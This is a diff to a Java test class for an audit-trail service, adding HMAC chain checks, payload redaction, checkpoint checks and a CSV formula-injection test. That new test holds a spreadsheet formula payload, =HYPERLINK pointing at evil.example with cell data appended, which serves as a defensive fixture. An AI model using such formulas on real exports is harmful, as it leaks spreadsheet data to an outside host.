@@ -37,6 +37,8 @@ class AuditTrailTest {
     JdbcTemplate jdbc;
     @Autowired
     UserAccounts accounts;
+    @org.springframework.beans.factory.annotation.Value("${valedger.audit.chain-key-file}")
+    java.nio.file.Path keyFile;
 
     Api admin;
     Api auditor;
@@ -102,7 +104,7 @@ class AuditTrailTest {
         JsonNode unreadable = latest("type=POST%20/api/pipes&outcome=REJECTED_INVALID");
         assertThat(unreadable.get("channel").asText()).isEqualTo("HTTP");
         assertThat(unreadable.get("user").asText()).isEqualTo("admin");
-        assertThat(unreadable.get("payload").asText()).isEqualTo("{\"id\": \"VA-A4\", ");
+        assertThat(unreadable.get("payload").asText()).doesNotContain("VA-A4").contains("\"bytes\":16").contains("sha256");
         assertThat(unreadable.get("reason").asText()).contains("not valid JSON");
         assertThat(unreadable.get("httpStatus").asInt()).isEqualTo(400);
     }
@@ -145,6 +147,7 @@ class AuditTrailTest {
     @Order(5)
     void anExportRoundTripsAndItsHashesRecomputeOutsideTheSystem() throws Exception {
         Instant from = Instant.parse("2000-01-01T00:00:00Z");
+        String key = java.nio.file.Files.readString(keyFile).trim();
         var jsonl = auditor.get("/api/audit/export?from=" + from + "&to=2100-01-01T00:00:00Z");
         assertThat(jsonl.status()).isEqualTo(200);
         List<JsonNode> lines = new ArrayList<>();
@@ -157,7 +160,9 @@ class AuditTrailTest {
         String prev = AuditChain.GENESIS;
         for (JsonNode line : lines) {
             assertThat(line.get("prevHash").asText()).isEqualTo(prev);
-            assertThat(sha256(prev + "\n" + canonicalOf(line))).as("entry %s", line.get("seq")).isEqualTo(line.get("hash").asText());
+            String text = prev + "\n" + canonicalOf(line);
+            String expected = AuditChain.KEYED.equals(line.path("algorithm").asText()) ? AuditTamperingTest.hmac(key, text) : sha256(text);
+            assertThat(expected).as("entry %s", line.get("seq")).isEqualTo(line.get("hash").asText());
             prev = line.get("hash").asText();
         }
 
@@ -171,7 +176,8 @@ class AuditTrailTest {
                 JsonNode value = line.get(AuditExport.CSV_HEADER.get(c));
                 String expected = value.isNull() ? null : value.isArray()
                         ? String.join(" ", iterable(value)) : value.asText();
-                assertThat(row.get(c)).as("row %d column %s", i, AuditExport.CSV_HEADER.get(c)).isEqualTo(expected);
+                String cell = row.get(c) != null && row.get(c).startsWith("'") ? row.get(c).substring(1) : row.get(c);
+                assertThat(cell).as("row %d column %s", i, AuditExport.CSV_HEADER.get(c)).isEqualTo(expected);
             }
         }
     }
@@ -198,7 +204,13 @@ class AuditTrailTest {
         var wrong = auditor.get("/api/audit/verify?expectSeq=" + seq + "&expectHash=" + "ab".repeat(32));
         assertThat(wrong.json().get("valid").asBoolean()).isFalse();
         assertThat(wrong.json().get("firstInvalidSeq").asLong()).isEqualTo(seq);
-        assertThat(auditor.get("/api/audit/checkpoints").json().get(0).get("headHash").asText()).isEqualTo(hash);
+        List<String> kept = new ArrayList<>();
+        auditor.get("/api/audit/checkpoints").json().forEach(c -> {
+            if (c.get("seq").asLong() == seq) {
+                kept.add(c.get("headHash").asText());
+            }
+        });
+        assertThat(kept).containsExactly(hash);
     }
 
     @Test
@@ -219,6 +231,21 @@ class AuditTrailTest {
         assertThat(verified.json().get("valid").asBoolean()).isFalse();
         assertThat(verified.json().get("firstInvalidSeq").asLong()).isEqualTo(target);
         assertThat(verified.json().get("reason").asText()).contains("does not match its hash");
+    }
+
+    @Test
+    @Order(9)
+    void anUnauthenticatedUserAgentThatLooksLikeAFormulaIsNeutralisedInTheCsvExport() {
+        String agent = "=HYPERLINK(\"http://evil.example/\"&A1,\"Klicka\")";
+        assertThat(Api.anonymous(port).send("POST", "/api/pipes", "application/json", "{}".getBytes(), "User-Agent", agent)
+                .status()).isEqualTo(401);
+        var csv = auditor.get("/api/audit/export?format=csv");
+        List<List<String>> rows = Csv.parse(csv.body());
+        int column = AuditExport.CSV_HEADER.indexOf("userAgent");
+        List<String> cells = rows.stream().skip(1).map(r -> r.get(column)).filter(c -> c != null && c.contains("HYPERLINK")).toList();
+        assertThat(cells).isNotEmpty().allSatisfy(cell -> assertThat(cell).isEqualTo("'" + agent));
+        assertThat(rows.stream().skip(1).flatMap(List::stream)
+                .filter(c -> c != null && !c.isEmpty() && "=+-@\t\r".indexOf(c.charAt(0)) >= 0 && !c.matches("-?[0-9.]+"))).isEmpty();
     }
 
     private static Iterable<String> iterable(JsonNode array) {
